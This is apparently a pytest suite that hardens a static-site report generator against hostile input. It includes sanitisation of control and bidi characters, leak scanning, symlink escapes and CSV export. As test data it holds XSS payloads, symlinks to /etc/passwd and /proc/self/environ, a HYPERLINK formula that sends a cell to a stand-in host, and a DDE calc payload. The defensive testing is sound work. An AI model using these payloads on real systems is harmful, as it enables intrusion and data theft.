"""The second hostile round (issue 14): each class of fault, tried with other characters, names and
paths than the ones first found.

Every test names its class; the parametrisations are the variants. Most tests load and render in
process (fast); the ones about escaping, interrupted builds, locks and removals run the real
`cycle-reports build` (tests/test_hostile_builds.py holds the SIGKILL ones).
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

from generator.build.stamp import input_stamp
from generator.cli import main
from generator.data import model as m
from generator.data import units
from generator.data.chars import clean_text
from generator.data.prose import lint, strip_private
from generator.data.yamlio import YamlError, parse_yaml
from generator.errors import UserError
from generator.load.site import load_site
from generator.render.cycle import render_cycle
from generator.render.frontmatter import FrontMatterError, check_pages, front_matter, read_front_matter
from generator.tools.export import render_csv
from generator.tools.mailpost import retrospective_post
from generator.tools.scan import find_emails, refuse_leaks, scan_text

SECRET = "Zanzibar-secret-7731"


def messages(root: Path, private: bool = False) -> list[str]:
    return [p.render() for p in load_site(root, private=private).problems.items]


def loaded(root: Path, private: bool = False) -> m.Site:
    result = load_site(root, private=private)
    assert result.site is not None, [p.render() for p in result.problems.items]
    return result.site


def all_pages(site: m.Site) -> dict[str, str]:
    out: dict[str, str] = {}
    for cycle in site.cycles:
        out.update({f"{cycle.name}/{k}": v for k, v in render_cycle(site, cycle).items()})
    return out


# --- 1 and 18: control, bidi and invisible characters; front matter that always reads ---------------------

HOSTILE_CHARS = [
    "\x7f",  # DEL
    "\x85",  # NEL: a YAML line break
    "\x9b",  # C1 CSI
    "\x1b",  # ESC
    "\x00",  # NUL
    "\u2028",  # line separator
    "\u2029",  # paragraph separator
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\u200b",  # zero-width space
    "\u2060",  # word joiner
    "\ufeff",  # byte-order mark
    "\U000e0041",  # Unicode tag
]
MARKDOWN_PAYLOADS = [
    "[docs](javascript:alert(document.domain))",
    "*x*{: onmouseover=alert(1) }",
    "<img src=x onerror=alert(1)>",
    "![i](data:text/html;base64,PHNjcmlwdD4=)",
    "`code` | pipe | # heading",
]


def _escaped(char: str) -> str:
    """`char` as a YAML double-quoted escape (the reader refuses it raw; gathered files hold escapes)."""
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


@pytest.mark.parametrize("char", HOSTILE_CHARS, ids=[f"U+{ord(c):04X}" for c in HOSTILE_CHARS])
def test_control_and_invisible_characters_are_removed_at_load(make_project: Callable[..., Path], char: str) -> None:
    """Class 1/18: a title holding any control, bidi or zero-width character loads without it, and every
    page's front matter then reads back as mkdocs reads it."""
    esc = _escaped(char)
    root = make_project(
        {
            "data/projects.yaml": "projects:\n  - key: glance\n",
            "data/projects.gathered.yaml": "projects:\n  - key: glance\n"
            f'    title: "Gla{esc}nce [x](javascript:alert(1))"\n',
            "data/cycles.gathered.yaml": f'cycles:\n  - name: mitaka\n    title: "Mi{esc}taka"\n',
            "data/mitaka/glance/gathered.yaml": f'ptl: "Jane{esc} Roe"\n',
        }
    )
    site = loaded(root)
    assert site.project("glance").title == "Glance [x](javascript:alert(1))"
    assert site.cycle("mitaka").title == "Mitaka"
    assert next(e for e in site.entries if e.cycle == "mitaka").data.ptl == "Jane Roe"
    for path, text in all_pages(site).items():
        if path.endswith(".md") and text.startswith("---"):
            meta = read_front_matter(text)
            assert isinstance(meta, dict) and "title" in meta, path
            assert char not in text, path


@pytest.mark.parametrize("char", [*HOSTILE_CHARS, "\x01", "\x08", "\x0b", "\x1f", "\x80", "\x9f"])
@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_front_matter_reads_back_whatever_the_value(char: str, payload: str) -> None:
    """Class 1: whatever a value holds, the front matter written for it is read by mkdocs' own reader
    as the same mapping (never refused, so never published as Markdown text)."""
    meta = {"title": f"Nova{char} {payload}", "description": f"{payload}{char}", "tags": [f"{char}{payload}"]}
    text = front_matter(meta)
    parsed = read_front_matter(text)
    assert parsed is not None and set(parsed) == {"title", "description", "tags"}
    assert parsed["title"].startswith("Nova ") and "<" not in parsed["title"]  # HTML-escaped for Material
    assert all(c not in text for c in HOSTILE_CHARS if c not in "\t\n")


@pytest.mark.parametrize(
    "broken",
    [
        "---\ntitle: [unclosed\n---\n\nBody\n",
        "---\ntitle: 'Nova\x7f'\n---\n\nBody\n",
        "---\n- a list, not a mapping\n---\n\nBody\n",
        "---\nkey: value\n  bad: indent\n---\n\nBody\n",
    ],
)
def test_a_page_whose_front_matter_does_not_read_is_an_error_naming_it(broken: str) -> None:
    """Class 1: a block mkdocs would refuse (and then publish as text) stops the unit, naming the page."""
    with pytest.raises(FrontMatterError, match=r"^about\.md: front matter"):
        check_pages({"index.md": "---\ntitle: ok\n---\n\nfine\n", "about.md": broken})


@pytest.mark.parametrize("char", HOSTILE_CHARS)
def test_gather_writes_no_control_or_invisible_character(char: str) -> None:
    """Class 1/18 at gather time: whatever a source sends, the gathered file holds none of them."""
    from generator.gather.write import render_file

    project = m.Project(key="nova", title=f"No{char}va", mission=f"Compute{char} [x](javascript:alert(1))")
    text, _ = render_file(m.ProjectsFile(projects=[project]), "data/projects.yaml")
    assert char not in text
    data = parse_yaml(text, "data/projects.gathered.yaml").data
    assert data["projects"][0]["title"] == "Nova"


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("क\u200dष", "क\u200dष"),  # a Devanagari conjunct: the joiner is spelling
        ("می\u200cخواهم", "می\u200cخواهم"),  # Persian: the non-joiner is spelling
        ("👩\u200d💻", "👩\u200d💻"),  # an emoji sequence
        ("Ad\u200dmin", "Admin"),  # between Latin letters: spoofing
        ("\u200dLeading", "Leading"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
    ],
)
def test_joiners_are_kept_only_where_they_are_spelling(raw: str, kept: str) -> None:
    """Class 18: zero-width joiners stay inside non-Latin words and emoji, go everywhere else."""
    assert clean_text(raw) == kept


# --- 3: fences by CommonMark's rules ---------------------------------------------------------------------

FENCES = {
    "four-backticks-holding-three": "````\n```\nnot a fence end\n```\n````\n",
    "tildes-around-backticks": "~~~\n```\n~~~\n",
    "backticks-around-tildes": "```\n~~~\n```\n",
    "longer-closing-fence": "```\ncode\n``````\n",
    "fence-with-info-string": "```python title=\"x.py\"\nprint('```')\n```\n",
    "indented-three-spaces": "   ~~~~\n   ~~~\n   ~~~~\n",
    "four-space-indent-is-not-a-fence": "    ```\n    still code\n",
    "fence-in-a-list": "- item\n\n  ```\n  ~~~\n  ```\n",
    "fence-in-a-quote": "> ```\n> ```` \n> ```\n",
}


@pytest.mark.parametrize("fence", FENCES.values(), ids=FENCES.keys())
def test_a_private_section_after_any_fence_is_left_out(fence: str) -> None:
    """Class 3: whatever fences come before it (and whatever they hold), the private section is cut,
    and `check` finds nothing wrong."""
    text = f"# Title\n\nIntro.\n\n{fence}\nBetween.\n\n<!-- private -->\n{SECRET}\n<!-- /private -->\n\nAfter.\n"
    public = strip_private(text, keep=False)
    assert SECRET not in public and "After." in public and "Between." in public
    assert SECRET in strip_private(text, keep=True)
    assert [p.render() for p in lint(text, "r.md") if p.field_path == "private"] == []


@pytest.mark.parametrize(
    "fence",
    ["```\n<!-- private -->\n```\n", "~~~~\n<!-- /private -->\n~~~~\n", "    <!-- private -->\n"],
    ids=["backticks", "tildes", "indented-code"],
)
def test_a_marker_inside_code_is_text(fence: str) -> None:
    """Class 3: a marker shown in code (the guide does this) is not a marker: nothing is cut."""
    text = f"Before.\n\n{fence}\nAfter {SECRET}.\n"
    assert SECRET in strip_private(text, keep=False) and fence.strip() in strip_private(text, keep=False)
    assert lint(text, "r.md") == []


@pytest.mark.parametrize("opening", ["```", "~~~", "````", "  ```"])
def test_a_fence_never_closed_before_a_private_section_is_an_error(opening: str) -> None:
    """Class 3: an unclosed fence swallows the rest as code, markers included: a located error."""
    text = f"Intro.\n\n{opening}\ncode\n\n<!-- private -->\n{SECRET}\n<!-- /private -->\n"
    problems = lint(text, "r.md")
    assert [(p.location.line, p.field_path) for p in problems] == [(3, "private")]
    assert "never closed" in problems[0].message


RETRO = "data/mitaka/glance/authored.yaml"


@pytest.mark.parametrize("fence", list(FENCES.values())[:3], ids=list(FENCES)[:3])
def test_the_mail_post_leaves_the_private_section_out_after_any_fence(
    make_project: Callable[..., Path], fence: str
) -> None:
    """Class 3 in `email`: the same cut, and the post goes through the leak scan."""
    root = make_project(
        {
            "data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n",
            "content/cycles/mitaka/projects/glance/retrospective.md": f"# Retro\n\n{fence}\n<!-- private -->\n"
            f"{SECRET}\n<!-- /private -->\n\nPublic end.\n",
        }
    )
    post = retrospective_post(loaded(root), root, "glance", "mitaka").render()
    assert SECRET not in post and "Public end." in post
    assert scan_text(post, "post") == []


@pytest.mark.parametrize(
    "leak",
    ["ops@example.org", "_ops@example.org", "carol＠example.org", "jörg@example.de", "cycle-reports private build"],
)
def test_email_output_with_an_address_or_private_trace_is_refused(
    make_project: Callable[..., Path], capsys: pytest.CaptureFixture[str], leak: str
) -> None:
    """Class 3/7: `email` scans its own output like the site's, and writes nothing on a finding."""
    root = make_project(
        {
            "data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n",
            "content/cycles/mitaka/projects/glance/retrospective.md": f"# Retro\n\nWrite to us. `{leak}`\n",
        }
    )
    out = root / "post.txt"
    code = main(["-C", str(root), "email", "-p", "glance", "-c", "mitaka", "-o", str(out)])
    err = capsys.readouterr().err
    assert code == 1 and "must not be sent" in err and "Traceback" not in err
    assert not out.exists()


# --- 4 and 15: paths that resolve outside the project, loops ---------------------------------------------


def _outside_targets(tmp_path: Path) -> dict[str, Path]:
    secret = tmp_path / "outside" / "secret.md"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text(f"ptl: {SECRET}\n")
    targets = {"tmp-file": secret, "etc-passwd": Path("/etc/passwd")}
    if Path("/proc/self/environ").exists():
        targets["proc-environ"] = Path("/proc/self/environ")
    return targets


@pytest.mark.parametrize("kind", ["tmp-file", "etc-passwd", "proc-environ"])
@pytest.mark.parametrize(
    "link",
    [
        "content/about.md",
        "content/cycles/mitaka/projects/glance/retrospective.md",
        "data/mitaka/glance/authored.yaml",
        "data/board/2016-01-10.yaml",
    ],
)
def test_a_file_linked_from_outside_the_project_is_refused(
    make_project: Callable[..., Path], tmp_path: Path, kind: str, link: str
) -> None:
    """Class 4: a prose or data file that is a symbolic link out of the project is a located error."""
    targets = _outside_targets(tmp_path)
    if kind not in targets:
        pytest.skip("no /proc here")
    root = make_project({"data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n"})
    (root / link).parent.mkdir(parents=True, exist_ok=True)
    (root / link).symlink_to(targets[kind])
    found = load_site(root)
    assert found.site is None
    rendered = [p.render() for p in found.problems.items]
    assert any(r.startswith(f"{link}: error: resolves outside the project") for r in rendered), rendered


@pytest.mark.parametrize("where", ["content/cycles/mitaka", "data/mitaka", "content/cycles/mitaka/projects/glance"])
def test_a_folder_linked_from_outside_the_project_is_refused(
    make_project: Callable[..., Path], tmp_path: Path, where: str
) -> None:
    """Class 4: a linked folder on the way leads out as surely as a linked file."""
    outside = tmp_path / "elsewhere"
    root = make_project({"data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n"})
    real = root / where
    if real.exists():
        outside.mkdir()
        for path in list(real.rglob("*")):
            target = outside / path.relative_to(real)
            target.parent.mkdir(parents=True, exist_ok=True)
            if path.is_file():
                target.write_bytes(path.read_bytes())
        import shutil

        shutil.rmtree(real)
    else:
        (outside / "projects" / "glance").mkdir(parents=True)
        (outside / "projects" / "glance" / "retrospective.md").write_text(f"# R\n\n{SECRET}\n")
        (outside / "retrospective.md").write_text(f"# R\n\n{SECRET}\n")
    real.parent.mkdir(parents=True, exist_ok=True)
    real.symlink_to(outside, target_is_directory=True)
    rendered = messages(root)
    assert any("resolves outside the project" in r for r in rendered), rendered


@pytest.mark.parametrize(
    "make_loop",
    [
        lambda c: (c / "loop.md").symlink_to("loop.md"),
        lambda c: ((c / "a.md").symlink_to("b.md"), (c / "b.md").symlink_to("a.md")),
        lambda c: (c / "cycles" / "up").symlink_to(".."),
        lambda c: ((c / "x").symlink_to("y"), (c / "y").symlink_to("x")),
    ],
    ids=["self", "two-files", "parent-folder", "two-folders"],
)
def test_a_symlink_loop_under_content_is_a_located_error_not_a_traceback(
    make_project: Callable[..., Path], capsys: pytest.CaptureFixture[str], make_loop: Callable[[Path], object]
) -> None:
    """Class 15: loops are stamped without being followed, and a looping page is named."""
    root = make_project({"data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n"})
    (root / "content" / "cycles").mkdir(parents=True, exist_ok=True)
    make_loop(root / "content")
    input_stamp(root, False)  # walks content/ without following links
    code = main(["-C", str(root), "check"])
    out = capsys.readouterr()
    assert "Traceback" not in out.err
    if any(p.suffix == ".md" for p in (root / "content").iterdir() if p.is_symlink()):
        assert code == 1 and "symbolic link" in out.err


# --- 5: names the site uses itself -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "history",
        "latest",
        "Latest",
        "feed.xml",
        "versions.json",
        "assets",
        "search",
        "sitemap.xml",
        "sitemap.xml.gz",
        "index.html",
        "404",
        "tags",
        "load-cache",
        "template-cache",
        "stylesheets",
        "robots.txt",
    ],
)
def test_a_cycle_named_like_the_sites_own_files_is_refused(make_project: Callable[..., Path], name: str) -> None:
    """Class 5: a cycle named like a file or folder the build writes is a located error at load."""
    root = make_project({"data/cycles.yaml": f"cycles:\n  - name: mitaka\n    start: 2015-10-16\n  - name: {name}\n"})
    rendered = messages(root)
    assert any(r.startswith("data/cycles.yaml:4:11: error: cycles[1].name:") for r in rendered), rendered


@pytest.mark.parametrize("key", ["history", "feed.xml", "assets", "x.json", "Search"])
def test_a_project_named_like_the_sites_own_files_is_refused(make_project: Callable[..., Path], key: str) -> None:
    """Class 5 for project keys (they become site/history/<key>/ and build/history~<key>/)."""
    root = make_project({"data/projects.yaml": f"projects:\n  - key: glance\n  - key: {key}\n"})
    assert any("projects[1].key" in r and "the site" in r for r in messages(root))


@pytest.mark.parametrize("pair", [("mitaka", "Mitaka"), ("newton", "NEWTON")])
def test_cycles_differing_only_in_case_are_one_folder(make_project: Callable[..., Path], pair: tuple[str, str]) -> None:
    """Class 5/10: `Mitaka` and `mitaka` are the same folder on a case-insensitive disk: a duplicate."""
    root = make_project({"data/cycles.yaml": f"cycles:\n  - name: {pair[0]}\n  - name: {pair[1]}\n"})
    assert any("duplicate name" in r for r in messages(root))


# --- 6: private sections inside YAML text ----------------------------------------------------------------

YAML_TEXT = {
    "entry-summary": (
        "data/mitaka/glance/authored.yaml",
        "summary: |\n  Public words.\n  <!-- private -->\n  {secret}\n  <!-- /private -->\n  More public.\n",
    ),
    "priority-reason": (
        "data/mitaka/glance/authored.yaml",
        "priorities:\n  - id: p1\n    title: T\n    outcome: missed\n    reason: |\n      Said.\n"
        "      <!-- private -->\n      {secret}\n      <!-- /private -->\n",
    ),
    "midcycle-summary": (
        "data/mitaka/glance/midcycle-2016-01-20.yaml",
        "date: 2016-01-20\nsummary: |\n  Met.\n  <!-- PRIVATE -->\n  {secret}\n  <!-- /private -->\n",
    ),
}


@pytest.mark.parametrize("case", YAML_TEXT.values(), ids=YAML_TEXT.keys())
def test_a_private_section_inside_yaml_text_is_left_out_and_not_exported(
    make_project: Callable[..., Path], case: tuple[str, str]
) -> None:
    """Class 6: a `<!-- private -->` section inside a YAML text value is cut like one in the prose:
    absent from the public model (so from pages, export and the post), present in a private load;
    a marker that does not do what it seems is a located error."""
    path, text = case
    root = make_project({"data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n", path: text.format(secret=SECRET)})
    if "PRIVATE" in text:
        assert any(r.startswith(path) and "unknown private marker" in r for r in messages(root))
        return
    public = loaded(root)
    from generator.tools.export import render_json, select

    assert SECRET not in render_json(public, select(public))
    assert not any(SECRET in page for page in all_pages(public).values())
    assert SECRET in render_json(loaded(root, private=True), select(loaded(root, private=True)))


# --- 7: addresses as mail systems accept them ------------------------------------------------------------

ADDRESSES = [
    "_ops@example.org",
    "-bob@example.org",
    "alice@example.xn--p1ai",
    "carol＠example.org",
    "jörg.müller@example.de",
    "dan+tag@sub.example.co.uk",
    "o'brien@example.ie",
    "user@例子.中国",
    "пользователь@пример.рф",
    "ｆｕｌｌ＠ｅｘａｍｐｌｅ．ｏｒｇ",
    "x@example.museum",
    "first.last@EXAMPLE.ORG",
]
CONTEXTS = {
    "html-text": lambda a: f"<p>Write to {a} today</p>",
    "html-entities": lambda a: "<p>" + "".join(f"&#{ord(c)};" for c in a) + "</p>",
    "html-attribute": lambda a: f'<a href="mailto:{a}">x</a>',
    "json-escaped": lambda a: json.dumps({"text": a}, ensure_ascii=True),
    "xml": lambda a: f"<entry><author>{a}</author></entry>",
    "url-encoded": lambda a: "https://x.org/?to=" + __import__("urllib.parse").parse.quote(a),
    "mail-post": lambda a: f"Thanks to everyone.\n  [1] {a}\n",
}


@pytest.mark.parametrize("context", CONTEXTS.values(), ids=CONTEXTS.keys())
@pytest.mark.parametrize("address", ADDRESSES)
def test_scan_finds_every_address_mail_systems_accept(address: str, context: Callable[[str], str]) -> None:
    """Class 7: leading `_` or `-`, punycode and Unicode domains, fullwidth at signs, Unicode local parts,
    in HTML, JSON, XML, URLs and the mail post."""
    found = find_emails(context(address), "f")
    assert found, (address, context(address))
    assert all("@" in p.message and address.split("@")[0][:1] not in ("", " ") for p in found)


@pytest.mark.parametrize(
    "text", ["icon@2x.png", "@media print", "mkdocs-material@9.8.1", "a @ b", "x@y", "@font-face", "user@localhost"]
)
def test_scan_does_not_flag_look_alikes(text: str) -> None:
    """Class 7: what only looks like an address is not one."""
    assert find_emails(f"<p>{text}</p>", "f") == []


@pytest.mark.parametrize("leak", ["bob@example.org", "<!-- private -->", "cycle-reports private build"])
def test_refuse_leaks_raises_with_the_findings(leak: str) -> None:
    """Classes 2/3/7: the gate `email` and `export` share."""
    with pytest.raises(UserError) as caught:
        refuse_leaks(f"x\n{leak}\n", "the post")
    assert caught.value.problems and caught.value.problems[0].location.line == 2


# --- 11: site-wide pages that would be silently dropped ------------------------------------------------


@pytest.mark.parametrize(
    "names",
    [("index.md", "about.md"), ("tags.md",), ("reference.md",), ("projects.md",), ("search.md",), ("404.md",)],
)
def test_a_site_page_that_clashes_is_an_error_naming_both(
    make_project: Callable[..., Path], names: tuple[str, ...]
) -> None:
    """Class 11: two pages that would land on one path, or a page on a generated one, is an error."""
    root = make_project({f"content/{n}": f"# {n}\n\ntext\n" for n in names})
    rendered = messages(root)
    clash = [r for r in rendered if "expected a page name of its own" in r]
    assert clash, rendered
    if len(names) == 2:
        assert "content/index.md" in clash[0] and "content/about.md" in clash[0]


# --- 12 and 13: private data in check, and a whole authored file private -----------------------------


def test_the_docs_private_reason_example_passes_check_strict(
    make_project: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """Class 12: `private: [reason]` on a missed priority is not "a missed priority with no reason"."""
    root = make_project(
        {
            "data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n",
            RETRO: "priorities:\n  - id: reasoned\n    title: T\n    outcome: missed\n"
            "    reason: Because of a person's health\n    private: [reason]\n",
        }
    )
    assert main(["-C", str(root), "check", "--strict"]) == 0, capsys.readouterr().err


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        ("  - id: p1\n    title: T\n    outcome: finished\n    private: true\n", "outcome"),
        ("  - id: p1\n    title: T\n    outcome: done\n    carried_to: 2099x\n    private: true\n", "carried_to"),
        ("  - id: p1\n    title: T\n    outcome: done\n    unknown_field: 1\n    private: [title]\n", "unknown_field"),
    ],
    ids=["bad-outcome", "unknown-cycle", "unknown-field"],
)
def test_check_finds_mistakes_inside_private_items(
    make_project: Callable[..., Path], capsys: pytest.CaptureFixture[str], item: str, expected: str
) -> None:
    """Class 12: `check` validates private items too, not only `build --private`."""
    root = make_project({"data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n", RETRO: "priorities:\n" + item})
    code = main(["-C", str(root), "check", "--strict"])
    err = capsys.readouterr().err
    assert code == 1 and expected in err, err


@pytest.mark.parametrize(
    "extra",
    [
        {},
        {"data/mitaka/glance/midcycle-2016-01-20.yaml": "date: 2016-01-20\nsummary: met\n"},
        {
            "data/mitaka/glance/midcycle-2016-01-20.yaml": "date: 2016-01-20\nsummary: met\n",
            "content/cycles/mitaka/projects/glance/midcycle-2016-01-20.md": f"# M\n\n{SECRET} in midcycle words\n",
        },
    ],
    ids=["prose", "with-midcycle", "with-midcycle-prose"],
)
def test_private_true_at_the_top_of_authored_yaml_hides_the_whole_report(
    make_project: Callable[..., Path], extra: dict[str, str]
) -> None:
    """Class 13: the prose, the data and the midcycles of a private report are all left out."""
    files = {
        "data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n",
        RETRO: f"private: true\nsummary: {SECRET}\n",
        "content/cycles/mitaka/projects/glance/retrospective.md": f"# R\n\n{SECRET} in prose\n",
        **extra,
    }
    root = make_project(files)
    public = loaded(root)
    assert not [e for e in public.entries if e.cycle == "mitaka"]
    assert not any(SECRET in text for text in all_pages(public).values())
    private = loaded(root, private=True)
    assert any(e.cycle == "mitaka" and e.retrospective for e in private.entries)


# --- 14: CSV cells a spreadsheet would run --------------------------------------------------------------


@pytest.mark.parametrize(
    "ptl",
    ['=HYPERLINK("http://x.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", " =1+1", "＝1+1"],
)
def test_csv_export_writes_formulas_as_text(make_project: Callable[..., Path], ptl: str) -> None:
    """Class 14: a cell that would start a formula is written with a leading apostrophe."""
    gathered = f"ptl: {json.dumps(ptl)}\nfeatures:\n  - {{id: f1, title: F}}\n"
    root = make_project({"data/mitaka/glance/gathered.yaml": gathered})
    site = loaded(root)
    from generator.tools.export import select

    rows = list(csv.DictReader(io.StringIO(render_csv(select(site)))))
    cell = next(r["ptl"] for r in rows if r["cycle"] == "mitaka")
    assert cell.startswith("'") and cell[1:] == ptl.strip()
    mitaka = next(r for r in rows if r["cycle"] == "mitaka")
    assert mitaka["features"] == "1" and mitaka["review_days"] == ""  # numbers stay numbers; unrecorded is empty


# --- 16: the disk filling up at the end of a build ------------------------------------------------------


@pytest.mark.parametrize("victim", ["feed.xml", "versions.json", "sitemap.xml", "index.html"])
@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EDQUOT])
def test_a_full_disk_while_writing_the_site_files_is_one_sentence(
    make_project: Callable[..., Path],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    victim: str,
    error: int,
) -> None:
    """Class 16: no traceback, no `.tmp-*` left, and the next build completes."""
    import generator.data.atomic as atomic

    root = make_project({"data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n"})
    real = atomic.write_bytes_atomic

    def write(path: Path, data: bytes, *, durable: bool = True) -> None:
        if path.name == victim and path.parent.name == "site":
            raise OSError(error, os.strerror(error), str(path))
        real(path, data, durable=durable)

    monkeypatch.setattr(atomic, "write_bytes_atomic", write)
    code = main(["-C", str(root), "build", "--quiet", "--jobs", "1"])
    err = capsys.readouterr().err
    assert code == 1 and "cannot write" in err and victim in err and "Traceback" not in err
    assert not [p for p in (root / "site").rglob(".tmp-*")]
    monkeypatch.setattr(atomic, "write_bytes_atomic", real)
    assert main(["-C", str(root), "build", "--quiet", "--jobs", "1"]) == 0
    assert (root / "site" / victim).is_file()


# --- 17: the site's address from the environment --------------------------------------------------------


@pytest.mark.parametrize("url", ["https://reports.example.net/", "http://127.0.0.1:8000/sub/"])
def test_a_new_site_url_in_the_environment_changes_the_stamp(
    make_project: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, url: str
) -> None:
    """Class 17: CYCLE_REPORTS_SITE_URL is an input: a new one means the build has work to do."""
    root = make_project()
    monkeypatch.delenv("CYCLE_REPORTS_SITE_URL", raising=False)
    before = input_stamp(root, False)
    monkeypatch.setenv("CYCLE_REPORTS_SITE_URL", url)
    assert input_stamp(root, False) != before


# --- 19: the right hint for a large file ------------------------------------------------------------------


@pytest.mark.parametrize("shape", ["list", "mapping", "nested"])
def test_a_large_alias_free_file_is_not_told_about_aliases(shape: str) -> None:
    """Class 19: over the value budget without a single alias: the hint is to split the file."""
    n = 200_100
    if shape == "list":
        text = "x:\n" + "".join(f"  - {i}\n" for i in range(n))
    elif shape == "mapping":
        text = "".join(f"k{i}: {i}\n" for i in range(n))
    else:
        text = "x:\n" + "".join(f"  - [{i}, {i}]\n" for i in range(n // 2))
    with pytest.raises(YamlError) as caught:
        parse_yaml(text, "big.yaml")
    assert "alias" not in caught.value.problem.hint and "split" in caught.value.problem.hint
    assert "has more than" in caught.value.problem.message


def test_an_alias_bomb_is_still_told_about_aliases() -> None:
    """Class 19, the other side: the alias hint stays where aliases are the cause."""
    text = "a: &a [1,2,3,4,5,6,7,8,9,10]\n"
    for name, prev in zip("bcdef", "abcde", strict=True):
        text += f"{name}: &{name} [" + ",".join([f"*{prev}"] * 10) + "]\n"
    with pytest.raises(YamlError) as caught:
        parse_yaml(text, "bomb.yaml")
    assert "alias" in caught.value.problem.hint


# --- 20: serve on an address it cannot listen on ----------------------------------------------------------


@pytest.mark.parametrize("how", ["busy", "busy-all-interfaces"])
def test_serve_on_a_busy_port_is_one_sentence(
    make_project: Callable[..., Path], capsys: pytest.CaptureFixture[str], how: str
) -> None:
    """Class 20: no traceback, a hint to pick another port."""
    root = make_project({"data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n"})
    holder = socket.socket()
    holder.bind(("127.0.0.1" if how == "busy" else "0.0.0.0", 0))
    holder.listen()
    port = holder.getsockname()[1]
    try:
        code = main(["-C", str(root), "serve", "--port", str(port)])
    finally:
        holder.close()
    err = capsys.readouterr().err
    assert code == 1 and f"cannot listen on 127.0.0.1:{port}" in err and "--port" in err
    assert "Traceback" not in err


# --- 21: a folder where a file belongs --------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "data/mitaka/glance/authored.yaml",
        "data/mitaka/glance/gathered.yaml",
        "data/mitaka/glance/midcycle-2016-01-20.yaml",
        "data/board/2016-01-10.yaml",
        "content/cycles/mitaka/projects/glance/retrospective.md",
        "content/about.md",
    ],
)
def test_a_folder_named_like_a_data_or_prose_file_is_a_located_error(
    make_project: Callable[..., Path], path: str
) -> None:
    """Class 21: never silently ignored."""
    root = make_project({"data/mitaka/glance/gathered.yaml": "ptl: Jane Roe\n"} if "gathered" not in path else {})
    (root / "data/mitaka/glance").mkdir(parents=True, exist_ok=True)
    (root / path).mkdir(parents=True)
    rendered = messages(root)
    assert any(r.startswith(f"{path}: error:") and "folder" in r for r in rendered), rendered


def test_the_reserved_names_match_what_the_build_writes() -> None:
    """Class 5, kept honest: every name the build writes at the site's root is reserved."""
    from generator.data.units import SITE_FEED

    for name in (SITE_FEED, "versions.json", "sitemap.xml", "index.html", "404.html", "latest", "history"):
        assert units.reserved_name(name), name
    for fine in ("mitaka", "2025.1", "2026.2", "Leaked", "a_b-c"):
        assert units.reserved_name(fine) is None, fine
    assert units.is_unit_name("Leaked") and units.is_unit_name("history/Nova")
    assert not units.is_unit_name("../x") and not units.is_unit_name("a/../../b")
